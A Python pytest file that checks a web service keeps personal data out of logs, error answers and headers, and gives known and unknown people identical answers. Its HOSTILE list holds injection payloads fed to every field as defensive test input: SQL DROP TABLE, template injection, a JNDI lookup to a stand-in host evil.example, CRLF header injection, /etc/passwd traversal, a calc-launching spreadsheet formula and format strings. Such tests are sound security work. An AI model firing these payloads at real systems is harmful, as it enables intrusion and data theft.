"""Personal data stays out of logs, URLs, answers and tracebacks, and nobody learns who exists."""

import asyncio
import io
import json
import logging
import re
import socket
import struct
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import structlog
from sqlalchemy.exc import IntegrityError

from audit.errors import LogBusyError
from issuer import logging as json_logging
from issuer.codes.issuing import Issuing
from issuer.people.enrolment import Enrolment
from issuer.people.people import People
from issuer.people.problems import Problem
from tests.web_support import GRANDSON, Answer, Site, serving

NAME, PHONE, NUMBER = "王秀兰", "13912345678", "11010519491231002X"
HOSTILE = (
    "王'; DROP TABLE identity; --",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "王\r\nSet-Cookie: a=b",
    "王\x1b[31m\u202e\u2028",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "=cmd|'/c calc'!A1",
    "%s%n%x",
)


@pytest.fixture
def stream() -> Iterator[io.StringIO]:
    """Everything that is logged, as it would be served."""
    root = logging.getLogger()
    before = root.handlers[:], root.level
    stream = io.StringIO()
    json_logging.configure(stream, level=logging.DEBUG)
    yield stream
    root.handlers[:], _ = before
    root.setLevel(before[1])
    logging.captureWarnings(capture=False)
    structlog.reset_defaults()


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    async with serving(tmp_path) as running:
        yield running


def require_no_canary(text: str, *more: str) -> None:
    for canary in (NAME, PHONE, NUMBER, "Canary", *more):
        assert canary not in text
        assert json.dumps(canary).strip('"') not in text


FAILURES: dict[str, Exception] = {
    "key": KeyError(NAME),
    "value": ValueError(f"invalid literal: {NAME}"),
    "integrity": IntegrityError("INSERT", {"name": NAME}, Exception(PHONE)),
    "timeout": TimeoutError(PHONE),
    "disk-full": OSError(28, f"no space for {NAME}"),
    "log-away": LogBusyError("busy"),
    "assertion": AssertionError(NUMBER),
    "unicode": UnicodeEncodeError("ascii", NAME, 0, 1, PHONE),
}


@pytest.mark.parametrize("failure", FAILURES)
async def test_forced_failure_shows_no_canary(
    tmp_path: Path, stream: io.StringIO, monkeypatch: pytest.MonkeyPatch, failure: str
) -> None:
    """Whatever fails in whatever handler, neither log nor answer holds the person's data (C122)."""
    async with serving(tmp_path) as site:
        token = await site.bound()

        def fail(*_: object, **__: object) -> object:
            raise FAILURES[failure]

        for owner, names in (
            (Enrolment, ("register", "ask", "confirm", "bindings", "unbind")),
            (Issuing, ("run", "issue")),
        ):
            for name in names:
                monkeypatch.setattr(owner, name, fail)
        monkeypatch.setattr("issuer.web.handlers.me.own_record", fail)
        monkeypatch.setattr("issuer.web.handlers.check.check", fail)
        answers = [
            await site.ask(
                "POST",
                "/register",
                {"name": NAME, "phone": PHONE, "home": "610113", "identity_number": NUMBER},
            ),
            await site.ask("POST", "/bindings", {"name": NAME, "phone": PHONE}),
            await site.ask("POST", "/bindings/confirm", {"request": "A" * 43, "code": "123456"}),
            await site.ask("GET", "/me/colour", token=token),
            await site.ask("GET", "/me/accesses", token=token),
            await site.ask("GET", "/me/bindings", token=token),
            await site.ask("DELETE", "/me/bindings/" + "0" * 16, token=token),
            await site.ask("POST", "/me/declarations", {"survey": "clear"}, token=token),
            await site.ask(
                "POST", "/me/codes", {"medium": "paper"}, token=token,
                headers={"Idempotency-Key": "Canary-0123456789"},
            ),
            await site.ask("POST", "/check", {"code": f"Canary {NAME}"}),
        ]  # fmt: skip
    assert {answer.status for answer in answers} <= {500, 503}
    assert {answer.problem for answer in answers} <= {Problem.INTERNAL, Problem.UNAVAILABLE}
    logged = stream.getvalue()
    assert logged.count("request_failed") == len(answers)
    require_no_canary(logged, token)
    for answer in answers:
        require_no_canary(answer.body.decode(), token)
        require_no_canary(str(dict(answer.headers)), token)


async def test_ordinary_use_logs_counts_by_route_and_nothing_else(
    tmp_path: Path, stream: io.StringIO
) -> None:
    """The log says how often a route was asked; no path, address, header, time or id (C121)."""
    async with serving(tmp_path) as site:
        token = await site.bound()
        listed = await site.ask("GET", "/me/bindings", token=token)
        binding = listed.json["bindings"][0]["binding"]
        await site.ask("DELETE", f"/me/bindings/{binding}", token=token)
        await site.ask("GET", f"/nothing/{PHONE}?phone={PHONE}")
        await site.ask("PUT", "/check")
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    requests = [line for line in lines if line["event"] == "requests"]
    assert {frozenset(line) for line in requests} == {
        frozenset({"event", "level", "time", "method", "route", "status", "count"})
    }
    counted = {(line["method"], line["route"], line["status"], line["count"]) for line in requests}
    assert {
        ("DELETE", "/api/v1/me/bindings/{binding}", 204, 1),
        ("GET", "/api/v1/me/bindings", 200, 1),
        ("other", "/api/v1/check", 405, 1),
        ("any", "none", 404, 1),
    } <= counted
    require_no_canary(stream.getvalue(), token, binding, GRANDSON["name"], GRANDSON["phone"])
    assert "127.0.0.1" not in stream.getvalue()


async def test_hostile_text_in_every_field_is_refused_or_stored_inert(
    site: Site, stream: io.StringIO
) -> None:
    """Injection strings of every kind end as a refusal that does not repeat them (C106)."""
    token = await site.bound()
    for text in HOSTILE:
        answers = [
            await site.ask("POST", "/register", {**GRANDSON, "name": text}),
            await site.ask("POST", "/register", {**GRANDSON, "phone": text}),
            await site.ask("POST", "/register", {**GRANDSON, "home": text}),
            await site.ask("POST", "/register", {**GRANDSON, "identity_number": text}),
            await site.ask("POST", "/bindings", {"name": text, "phone": "13800138000"}),
            await site.ask("POST", "/bindings/confirm", {"request": text, "code": text}),
            await site.ask("POST", "/me/declarations", {"survey": text}, token=token),
            await site.ask(
                "POST", "/me/declarations",
                {"arrivals": [{"place": text, "at": text}]}, token=token,
            ),
            await site.ask("POST", "/me/codes", {"medium": text}, token=token),
        ]  # fmt: skip
        assert {answer.status for answer in answers} <= {400, 422}, text
        for answer in answers:
            assert text not in answer.body.decode()
            assert "evil" not in answer.body.decode()
        checked = await site.ask("POST", "/check", {"code": text})
        assert checked.json["kind"] == "not-a-code"
    for line in stream.getvalue().splitlines():
        assert json.loads(line)["event"]
    assert "evil" not in stream.getvalue()


async def test_name_with_an_apostrophe_is_stored_as_it_is(site: Site) -> None:
    """What may be a name is stored inert and comes back unchanged (C106)."""
    person = {"name": "Robert O'Tables", "phone": "13900139000", "home": "610113"}
    await site.bound(person)
    digest = site.people.digest_of_name_and_phone(person["name"], "+8613900139000")
    subject = site.people.find(digest)
    assert subject is not None
    assert site.people.identity_of(subject).name == person["name"]


def shape(answer: Answer) -> tuple[object, ...]:
    """All of an answer that somebody may look at, without what is random in every answer."""
    body = re.sub(r'"request":"[^"]{43}"', '"request":""', answer.body.decode())
    headers = {k: v for k, v in answer.headers.items() if k != "Date"}
    return answer.status, headers, body, len(answer.body)


async def test_known_and_unknown_get_the_same_answers(site: Site) -> None:
    """Registering, asking and confirming tell nothing about who exists (C111, C112, C118)."""
    await site.bound()
    unknown = {"name": "无此人", "phone": "13900139000"}
    known = {"name": GRANDSON["name"], "phone": GRANDSON["phone"]}
    asked = [await site.ask("POST", "/bindings", who) for who in (known, unknown)]
    assert shape(asked[0]) == shape(asked[1])
    confirmed = [
        await site.ask(
            "POST", "/bindings/confirm", {"request": answer.json["request"], "code": "000000"}
        )
        for answer in asked
    ]
    right = await site.ask(
        "POST",
        "/bindings/confirm",
        {"request": asked[1].json["request"], "code": site.phones.last_code()},
    )
    assert shape(confirmed[0]) == shape(confirmed[1]) == shape(right)
    registered = [
        await site.ask("POST", "/register", {**who, "home": "610113"}) for who in (known, unknown)
    ]
    assert shape(registered[0]) == shape(registered[1])
    assert len({message.text for message in site.phones.messages[-2:]}) == 1


async def test_answers_leave_at_the_end_of_a_slot(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Work of any length within a slot is answered after the same time (C111)."""
    slot_s = 0.2
    find = People.digest_of_name_and_phone
    async with serving(tmp_path, slot_s=slot_s) as site:
        loop_time = asyncio.get_running_loop().time

        async def took(name: str) -> float:
            start = loop_time()
            await site.ask("POST", "/bindings", {"name": name, "phone": "13800138000"})
            return loop_time() - start

        def slow(self: People, name: str, phone: str) -> bytes:
            for _ in range(200 if name == "慢" else 1):
                digest = find(self, name, phone)
            return digest

        monkeypatch.setattr(People, "digest_of_name_and_phone", slow)
        for name in ("慢", "快"):
            assert slot_s <= await took(name) + 0.01


@pytest.mark.parametrize("is_abrupt", [False, True], ids=["closed", "reset"])
async def test_phone_that_loses_its_network_leaves_no_line(
    stream: io.StringIO, tmp_path: Path, *, is_abrupt: bool
) -> None:
    """A line's time could tell who stood at a door; and this is no failure of ours."""
    async with serving(tmp_path) as site:
        _, writer = await asyncio.open_connection("127.0.0.1", site.port)
        writer.write(
            b"POST /api/v1/check HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b'Content-Length: 100\r\n\r\n{"code":'
        )
        await site.ask("GET", "/health")
        if is_abrupt:
            writer.transport.get_extra_info("socket").setsockopt(
                socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
            )
        writer.close()
        await site.ask("GET", "/health")
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert {line["event"] for line in lines} == {"requests"}
    counted = {(line["route"], line["status"]): line["count"] for line in lines}
    assert counted == {("/api/v1/check", 400): 1, ("/api/v1/health", 200): 2}
